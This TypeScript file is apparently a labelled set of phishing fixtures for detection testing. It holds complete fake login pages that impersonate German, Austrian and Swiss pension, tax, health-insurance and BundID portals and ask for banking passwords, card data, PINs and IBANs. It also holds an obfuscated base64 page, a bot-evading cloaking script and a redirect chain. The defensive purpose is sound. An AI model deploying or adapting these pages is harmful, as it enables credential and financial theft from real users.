import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footerDe, b64, rb64 } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-drv-rentenbescheid-login', label: 'phishing', kind: 'pension-portal-kit',
  url: 'https://rentenservice-drv.de/eservice/rentenbescheid/',
  body: doc({ title: 'Deutsche Rentenversicherung – eService', css: '.top{background:#fff;border-bottom:4px solid #0a3e89}.btn{background:#0a3e89;color:#fff}',
    body: `<header class="top"><div class="wrap">${mark('Deutsche Rentenversicherung', '#0a3e89', '#fff', 260)}</div></header>
<div class="wrap"><div class="box" style="margin-top:30px"><h1>Ihr Rentenbescheid steht zum Abruf bereit</h1>
<p>Im Rahmen der Rentenanpassung zum 1. Juli wurde Ihr Bescheid neu berechnet. Es liegt eine <b>Nachzahlung</b> vor. Zum Abruf identifizieren Sie sich bitte mit Ihren Zugangsdaten und Ihrer Bankverbindung.</p>
<form method="post" action="/eservice/verify.php"><label>Versicherungsnummer</label><input name="vsnr" placeholder="12 150785 M 012">
<label>Steuer-Identifikationsnummer</label><input name="idnr" maxlength="11">
<label>E-Mail-Adresse</label><input name="email" type="email"><label>Passwort des Online-Banking (zur Verifizierung der Bankverbindung)</label><input name="bankpw" type="password">
<label>Kreditinstitut</label><select name="bank"><option>Sparkasse</option><option>Volksbank / Raiffeisenbank</option><option>Postbank</option><option>Deutsche Bank</option><option>Commerzbank</option><option>ING</option><option>Andere</option></select>
<label>Anmeldename / Legitimations-ID</label><input name="bankuser">
<p><button class="btn">Rentenbescheid abrufen</button></p></form></div></div>${footerDe('Deutsche Rentenversicherung Bund')}` }),
},
{
  id: 'zv-finanzonline-gutschrift-at', label: 'phishing', kind: 'tax-portal-kit',
  url: 'https://finanzonline-bmf.gv-at.cc/fon/gutschrift',
  body: doc({ title: 'FinanzOnline – Gutschrift', lang: 'de-AT', css: '.top{background:#c8102e;color:#fff}.btn{background:#c8102e;color:#fff}',
    body: `<header class="top"><div class="wrap"><b>BMF</b> · FinanzOnline</div></header>
<div class="wrap" style="max-width:560px"><div class="box" style="margin-top:30px"><h2>Ihre Arbeitnehmerveranlagung – Gutschrift € 512,40</h2>
<p>Zur Auszahlung der Gutschrift ist eine einmalige Bestätigung Ihrer Zahlungskarte erforderlich (PSD2-Richtlinie).</p>
<form method="post" action="/fon/weiter.php"><label>Teilnehmer-Identifikation</label><input name="tid"><label>Benutzer-Identifikation</label><input name="benid"><label>PIN</label><input type="password" name="pin">
<label>Kartennummer</label><input name="kn" inputmode="numeric"><label>Gültig bis</label><input name="gb"><label>CVV</label><input name="cvv">
<p><button class="btn">Gutschrift anfordern</button></p></form></div></div>${footerDe('Bundesministerium für Finanzen')}` }),
},
{
  id: 'zv-oegk-ecard-tausch-obf', label: 'phishing', kind: 'obfuscated-kit',
  url: 'https://oegk-ecard.at-service.help/tausch/',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>ÖGK</title><meta name="robots" content="noindex,nofollow"></head><body>
<script>var _0x5a=['${rb64(doc({ title: 'Österreichische Gesundheitskasse – e-card Tausch', lang: 'de-AT', css: '.btn{background:#00a19a;color:#fff}', body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:30px"><b style="color:#00a19a;font-size:24px">ÖGK</b><h2>Ihre e-card mit Foto wird ausgetauscht</h2><p>Für die Zustellung Ihrer neuen e-card fällt eine Versandgebühr von 2,90 € an. Bitte bestätigen Sie Ihre Daten.</p><form method="post" action="https://oegk-ecard.at-service.help/tausch/post.php"><label>Sozialversicherungsnummer</label><input name="svnr" maxlength="10"><label>Name</label><input name="name"><label>Karteninhaber</label><input name="holder"><label>Kartennummer</label><input name="card"><label>MM/JJ</label><input name="exp"><label>CVC</label><input name="cvc"><p><button class="btn">Bezahlen 2,90 €</button></p></form></div></div>` }))}'];
(function(){var s=_0x5a[0].split('').reverse().join('');document.open();document.write(decodeURIComponent(escape(atob(s))));document.close();})();</script>
</body></html>`,
},
{
  id: 'zv-barmer-bonus-cloaked', label: 'phishing', kind: 'cloaked-kit',
  url: 'https://barmer-bonusprogramm.de-praemie.com/',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Gartenpflege Tipps</title></head><body>
<h1>Gartenpflege im Herbst</h1><p>Der Herbst ist die richtige Zeit, um Stauden zu teilen und Rasenflächen zu vertikutieren.</p>
<script src="/assets/cl.js"></script></body></html>`,
  routes: {
    'barmer-bonusprogramm.de-praemie.com/assets/cl.js': jsRoute(`(function(){var ua=navigator.userAgent;if(/bot|crawl|spider|headless|lighthouse|google|bing/i.test(ua)||navigator.webdriver){return}
if(!/Android|iPhone|Mobile/i.test(ua)&&screen.width>1200){}
fetch('/assets/p.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})})();`),
    'barmer-bonusprogramm.de-praemie.com/assets/p.html': htmlRoute(doc({ title: 'BARMER Bonusprogramm – Prämie auszahlen', css: '.btn{background:#0f5ea8;color:#fff}', body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:30px">${mark('BARMER', '#0f5ea8')}<h2>Ihre Bonusprämie: 150,00 €</h2><p>Melden Sie sich mit Ihren Zugangsdaten der BARMER-App an.</p><form method="post" action="/bonus/login.php"><label>E-Mail</label><input name="email" type="email"><label>Passwort</label><input type="password" name="password"><label>Mobilnummer für die SMS-Bestätigung</label><input name="tel"><p><button class="btn">Prämie auszahlen</button></p></form></div></div>` })),
  },
},
{
  id: 'zv-helsana-praemienverbilligung-fr', label: 'phishing', kind: 'health-insurer-refund-kit',
  url: 'https://myhelsana-remboursement.ch-portal.org/fr/login',
  body: doc({ title: 'myHelsana – Connexion', lang: 'fr-CH', css: '.btn{background:#00a0df;color:#fff;width:100%}',
    body: `<div class="wrap" style="max-width:440px"><div class="box" style="margin-top:40px">${mark('Helsana', '#00a0df', '#fff', 120)}
<h2>Remboursement de primes</h2><p>Suite au recalcul de la réduction individuelle des primes (RIP) de votre canton, un montant de <b>CHF 388.–</b> vous est dû.</p>
<form method="post" action="/fr/next.php"><label>Adresse e-mail</label><input name="email" type="email"><label>Mot de passe</label><input type="password" name="pw">
<label>Numéro AVS</label><input name="avs" placeholder="756.xxxx.xxxx.xx"><label>Numéro de carte PostFinance ou Visa</label><input name="card"><label>Date d'expiration</label><input name="exp"><label>CVC</label><input name="cvc">
<p><button class="btn">Recevoir le remboursement</button></p></form></div></div>` }),
},
{
  id: 'zv-bundid-energiepauschale-chain', label: 'phishing', kind: 'government-kit',
  url: 'https://t.ly-go.de/Bund-EPP',
  routes: {
    't.ly-go.de/Bund-EPP': redirectRoute(301, 'https://verify-bund.de-portal.top/go?c=epp24'),
    'verify-bund.de-portal.top/go': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://id-bund.de-portal.top/bundid/login"><title>Weiterleitung</title></head><body>Sie werden weitergeleitet…</body></html>`),
    'id-bund.de-portal.top/bundid/login': htmlRoute(doc({ title: 'BundID – Ihr zentrales Konto für Verwaltungsleistungen', css: '.top{background:#000;color:#fff}.btn{background:#004b76;color:#fff}',
      body: `<header class="top"><div class="wrap">Bundesrepublik Deutschland · BundID</div></header><div class="wrap" style="max-width:560px"><div class="box" style="margin-top:30px"><h2>Antrag auf Energiepreispauschale (300 €)</h2><p>Ihr Antrag wurde vorgeprüft. Zur Auszahlung bestätigen Sie Ihre Identität.</p>
<form method="post" action="/bundid/next"><label>Benutzername</label><input name="u"><label>Passwort</label><input type="password" name="p"><label>Steuer-ID</label><input name="stid"><label>IBAN</label><input name="iban"><label>Kartennummer (Girocard/Visa)</label><input name="card"><label>Karten-PIN</label><input type="password" name="cpin" maxlength="6"><p><button class="btn">Auszahlung beantragen</button></p></form></div></div>` })),
  },
},
];
